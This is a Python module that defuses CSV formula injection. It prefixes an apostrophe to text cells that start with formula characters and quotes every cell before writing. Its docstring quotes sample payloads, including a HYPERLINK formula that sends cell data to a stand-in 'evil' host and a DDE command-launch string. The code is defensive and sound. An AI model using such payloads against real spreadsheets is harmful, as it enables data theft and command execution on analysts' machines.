"""The one CSV writer of the project: every cell that a spreadsheet could run as a formula is
defused (CSV / formula injection, OWASP "CSV Injection", ASVS 5.0 requirement 1.2.10, CWE-1236).

File names, typed labels and notes end up in exports that analysts open in Excel, LibreOffice or
Google Sheets; a cell such as ``=HYPERLINK("http://evil/"&A1)``, ``@SUM(1)`` or
``-cmd|' /C calc'!A0`` would be evaluated there. Following OWASP's guidance:

* a *text* cell whose first character is one of ``= + - @``, tab, carriage return, line feed or
  NUL (and the full-width ``＝ ＋ － ＠`` that East Asian spreadsheets also accept) gets a leading
  apostrophe, so the spreadsheet shows it as text (``'=2+3``);
* every text cell is written inside double quotes (embedded quotes doubled, RFC 4180), so a
  separator inside a value -- ``a;=1+2`` opened where ``;`` is the list separator -- never
  starts a new cell;
* numbers stay numbers: ``int``/``float`` values are written bare, and a *text* cell that is a
  plain decimal number (``-3.5``, ``+1``, ``-2e-3``; labels such as ``-1`` are common) is left
  as it is -- a spreadsheet reads it as that number and nothing in it can call a function.
  Anything more (``-3+4``, ``-inf``, ``-0x1``) is defused.

The apostrophe is visible in a few tools (and in ``csv`` readers): the JSON Lines exports keep
every value exactly.
"""

from __future__ import annotations

import csv
import json
import math
import re
from collections.abc import Iterable, Mapping, Sequence
from typing import IO, Any

#: First characters that make a spreadsheet read a cell as a formula (or that it strips before
#: reading a formula: tab, CR, LF, NUL).
FORMULA_TRIGGERS = frozenset("=+-@\t\r\n\0＝＋－＠")
#: A plain decimal number: safe to leave as it is even when it starts with a sign.
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def spreadsheet_safe(value: Any) -> Any:
    """``value`` as a CSV cell that no spreadsheet runs as a formula (see the module doc).

    ``None`` becomes an empty cell, lists and dicts JSON text, finite numbers stay numbers;
    text starting with a formula character gets a leading apostrophe.
    """
    if value is None:
        return ""
    if isinstance(value, bool):
        return value
    if isinstance(value, int | float):
        if isinstance(value, float) and not math.isfinite(value):
            return spreadsheet_safe(str(value))  # "-inf" would be read as a formula
        return value
    if isinstance(value, dict | list | tuple):
        value = json.dumps(value, ensure_ascii=False)
    text = str(value)
    if text[:1] in FORMULA_TRIGGERS and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def write_csv(handle: IO[str], columns: Sequence[str], rows: Iterable[Mapping[str, Any]]) -> int:
    """Write a header and ``rows`` (only ``columns``, in order) to a text stream; returns the row
    count. Every cell goes through :func:`spreadsheet_safe`; text cells are quoted, numbers
    bare. The header (the project's own column names) is quoted only where needed. Open files
    with ``newline=""`` (the writer ends lines with CRLF, as RFC 4180 says)."""
    csv.writer(handle).writerow([spreadsheet_safe(str(c)) for c in columns])
    writer = csv.writer(handle, quoting=csv.QUOTE_NONNUMERIC)
    count = 0
    for row in rows:
        writer.writerow([spreadsheet_safe(row.get(c)) for c in columns])
        count += 1
    return count
